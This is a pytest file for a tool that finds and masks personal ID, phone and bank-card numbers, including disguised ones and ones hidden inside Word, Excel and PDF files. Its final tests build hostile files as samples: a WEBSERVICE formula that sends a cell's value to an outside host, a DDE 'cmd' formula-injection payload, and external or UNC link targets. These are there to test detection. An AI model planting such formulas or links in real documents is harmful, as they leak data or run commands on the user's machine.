"""Personal numbers written so that a reader sees them and a search may not, and where they hide."""

import io
import random
import zipfile
from collections.abc import Callable

import openpyxl
import pypdf
import pytest
from openpyxl.workbook.defined_name import DefinedName
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from scripts.content.files import contents_of
from scripts.content.personal import Sort, masked_text, numbers_in
from tests.content.test_personal import CARD, ENDING_IN_X, IDENTITY, MOBILE
from tests.support import bad_files as bad

_HAN = str.maketrans("0123456789", "〇一二三四五六七八九")
DISGUISED = {
    "invisible between": ("\ufeff".join(MOBILE), Sort.MOBILE),
    "soft hyphens": ("\u00ad".join(MOBILE), Sort.MOBILE),
    "marks of direction": ("\u202d" + "\u200e\u200b".join(MOBILE), Sort.MOBILE),
    "joiners": ("\u2060".join(IDENTITY), Sort.IDENTITY),
    "mathematical digits": ("".join(chr(0x1D7CE + int(d)) for d in MOBILE), Sort.MOBILE),
    "circled": (MOBILE.translate(str.maketrans("12345678", "①②③④⑤⑥⑦⑧")), Sort.MOBILE),
    "in Chinese": (MOBILE.translate(_HAN), Sort.MOBILE),
    "Roman ten": (ENDING_IN_X[:-1] + "Ⅹ", Sort.IDENTITY),
    "Cyrillic": (ENDING_IN_X[:-1] + "Х", Sort.IDENTITY),
    "sign of times": (ENDING_IN_X[:-1] + "×", Sort.IDENTITY),
    "X apart": (ENDING_IN_X[:-1] + " X", Sort.IDENTITY),
    "wide blanks": ("138  1234  5678", Sort.MOBILE),
    "bracketed": ("(138)12345678", Sort.MOBILE),
    "strokes": ("138/1234/5678", Sort.MOBILE),
    "strokes in identity": (f"{IDENTITY[:6]}/{IDENTITY[6:14]}/{IDENTITY[14:]}", Sort.IDENTITY),
    "broken line": (f"{IDENTITY[:10]}\n{IDENTITY[10:]}", Sort.IDENTITY),
    "a box for each": ("\n".join(IDENTITY), Sort.IDENTITY),
    "three cells": (f"身份证号\n{IDENTITY[:6]}\n{IDENTITY[6:14]}\n{IDENTITY[14:]}", Sort.IDENTITY),
    "in an address": (f"https://www.example.gov.cn/{IDENTITY}", Sort.IDENTITY),
    "after letters": (f"sfz{IDENTITY}", Sort.IDENTITY),
    "after a number of a list": (f"2.{IDENTITY}", Sort.IDENTITY),
    "telephone on two lines": ("联系电话：1381234\n5678", Sort.MOBILE),
    "telephone in boxes": ("手机\n" + "\n".join(MOBILE), Sort.MOBILE),
    "card in other groups": (f"账号：{CARD[:6]} {CARD[6:]}", Sort.BANK_CARD),
    "card on two lines": (f"卡号{CARD[:8]}\n{CARD[8:]}", Sort.BANK_CARD),
}


@pytest.mark.parametrize("case", DISGUISED)
def test_a_number_is_found_in_its_disguise(case: str) -> None:
    text, sort = DISGUISED[case]
    (found,) = numbers_in(f"填报 {text}，谢谢")
    assert found.sort == sort
    assert found.masked not in ("", text)
    told = masked_text(f"填报 {text}，谢谢")
    assert told.startswith("填报 ") and told.endswith("，谢谢") and "****" in told


@pytest.mark.parametrize(
    "text",
    [
        "联系电话\n1\n5303810011",  # the number of a row, a code
        "150\n1200\n3400",
        "完成 12  150  1200  3400 件",
        "二〇二三年五月六日至二〇二三年十二月三十一日",
        "530381\n20230508\n0012\n宛水街道",  # area, day and order, each in a cell of its own
        "2023-05-06\n12\n138\n2023-05-07\n15\n140",
    ],
)
def test_numbers_that_only_stand_together_are_none(text: str) -> None:
    assert list(numbers_in(text)) == []


def test_tables_of_figures_hold_no_number_of_a_person() -> None:
    dice = random.Random(2023)
    for _ in range(40):
        cells = [str(dice.randrange(10 ** dice.randrange(1, 9))) for _ in range(400)]
        for joint in ("\n", " ", "  ", "\t"):
            assert list(numbers_in(joint.join(cells))) == []


# --- where a number hides in a file --------------------------------------------------------------


def _word_with(name: str, part: str) -> bytes:
    return bad.rezipped(bad.word(), {name: part.encode()})


def _elsewhere() -> bytes:
    """Return a Word file whose main part has another name; Word opens it all the same."""
    content = bad.word(f"当事人{IDENTITY}")
    types, top, main, below = (
        bad.part_of(content, name)
        for name in ("[Content_Types].xml", "_rels/.rels", "word/document.xml",
                     "word/_rels/document.xml.rels")
    )  # fmt: skip
    return bad.rezipped(
        content,
        {
            "[Content_Types].xml": types.replace(b"/word/document.xml", b"/word/text.xml"),
            "_rels/.rels": top.replace(b"word/document.xml", b"word/text.xml"),
            "word/document.xml": None,
            "word/_rels/document.xml.rels": None,
            "word/text.xml": main,
            "word/_rels/text.xml.rels": below,
        },
    )


def _described() -> bytes:
    core = bad.part_of(bad.word(), "docProps/core.xml")
    told = f"<dc:description>{IDENTITY}</dc:description></cp:coreProperties>"
    return bad.rezipped(
        bad.word(), {"docProps/core.xml": core.replace(b"</cp:coreProperties>", told.encode())}
    )


def _book(change: Callable[[openpyxl.Workbook], object]) -> bytes:
    book = openpyxl.Workbook()
    book.properties.creator = ""
    book.active["A1"] = "一"
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _named(book: openpyxl.Workbook) -> None:
    book.defined_names["a"] = DefinedName("a", attr_text=f'"{IDENTITY}"')


def _headed(book: openpyxl.Workbook) -> None:
    book.active.oddHeader.center.text = IDENTITY


def _note(writer: pypdf.PdfWriter, **fields: object) -> None:
    edges = ArrayObject([NumberObject(each) for each in (0, 0, 90, 90)])
    note = DictionaryObject({NameObject("/Subtype"): NameObject("/Stamp"),
                             NameObject("/Rect"): edges})  # fmt: skip
    for name, value in fields.items():
        note[NameObject(f"/{name}")] = value
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])


def _stamped(writer: pypdf.PdfWriter) -> None:
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"),
                             NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})  # fmt: skip
    fonts = DictionaryObject({NameObject("/F1"): font})
    look = StreamObject()
    look.set_data(f"BT /F1 12 Tf 10 10 Td ({IDENTITY}) Tj ET".encode())
    look[NameObject("/Subtype")] = NameObject("/Form")
    look[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    drawn = DictionaryObject({NameObject("/N"): writer._add_object(look)})
    _note(writer, AP=drawn)


_RUN = "<w:r xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:t>{}</w:t></w:r>"
HIDING = {
    "main-part.docx": _elsewhere,
    "chart.docx": lambda: _word_with("word/charts/chart1.xml", f"<c><t>{IDENTITY}</t></c>"),
    "diagram.docx": lambda: _word_with("word/diagrams/data1.xml", f"<c><t>{IDENTITY}</t></c>"),
    "glossary.docx": lambda: _word_with("word/glossary/document.xml", _RUN.format(IDENTITY)),
    "properties.docx": _described,
    "own-property.docx": lambda: _word_with("docProps/custom.xml", f"<p><v>{IDENTITY}</v></p>"),
    "picture.docx": lambda: bad.with_body(
        bad.word(), f'<w:p><w:r><docPr id="1" descr="{IDENTITY}"/></w:r></w:p>'
    ),
    "link.docx": lambda: bad.related(bad.word(), "hyperlink", f"https://a.cn/{IDENTITY}"),
    "sheet-name.xlsx": lambda: _book(lambda book: setattr(book.active, "title", IDENTITY)),
    "header.xlsx": lambda: _book(_headed),
    "name.xlsx": lambda: _book(_named),
    "formula.xlsx": lambda: _book(
        lambda book: book.active.append([f'=HYPERLINK("https://a.cn/","{IDENTITY}")'])
    ),
    "note.pdf": lambda: bad.pdf(lambda w: _note(w, Contents=TextStringObject(IDENTITY))),
    "field.pdf": lambda: bad.pdf(lambda w: _note(w, V=TextStringObject(IDENTITY))),
    "stamp.pdf": lambda: bad.pdf(_stamped),
    "title.pdf": lambda: bad.pdf(lambda w: w.add_metadata({"/Title": f"关于{IDENTITY}的函"})),
}


@pytest.mark.parametrize("name", HIDING)
def test_a_number_is_found_wherever_the_file_keeps_it(name: str) -> None:
    found = contents_of(name, HIDING[name](), wants_text=True)
    assert [each.code for each in found.faults] == []
    assert {each.sort for each in numbers_in("\n".join(found.lines))} == {Sort.IDENTITY}


# --- files that are not what they say -------------------------------------------------------------


def _without_main() -> bytes:
    return bad.rezipped(bad.word(), {"word/document.xml": None})


def _twin(name: str) -> bytes:
    return bad.rezipped(bad.word(), {name: b"<other/>"})


def _linked(target: str, mode: str) -> bytes:
    link = f"<Relationships><Relationship Id='a' Type='a/image' Target='{target}'{mode}/>"
    return _word_with("word/_rels/header9.xml.rels", f"{link}</Relationships>")


ODD = {
    "no-text.docx": (_without_main, "attachment-broken"),
    "twin.docx": (lambda: _twin("word/Document.xml"), "attachment-broken"),
    "twin-stroke.docx": (lambda: _twin("word\\document.xml"), "attachment-broken"),
    "small.docx": (
        lambda: _linked("http://a.cn/", " TargetMode='external'"),
        "attachment-external",
    ),
    "inside.docx": (lambda: _linked("file:///c:/a", ""), "attachment-external"),
    "machine.docx": (lambda: _linked("\\\\a\\b", ""), "attachment-external"),
    "fetch.xlsx": (
        lambda: _book(lambda book: book.active.append(['=WEBSERVICE("http://a.cn/"&A1)'])),
        "attachment-external",
    ),
    "program.xlsx": (
        lambda: _book(lambda book: book.active.append(["=cmd|'/c calc'!A0"])),
        "attachment-external",
    ),
}


@pytest.mark.parametrize("name", ODD)
def test_a_file_is_not_taken_for_what_it_only_claims_to_be(name: str) -> None:
    make, code = ODD[name]
    content = make()
    assert zipfile.is_zipfile(io.BytesIO(content))
    assert [each.code for each in contents_of(name, content, wants_text=True).faults] == [code]
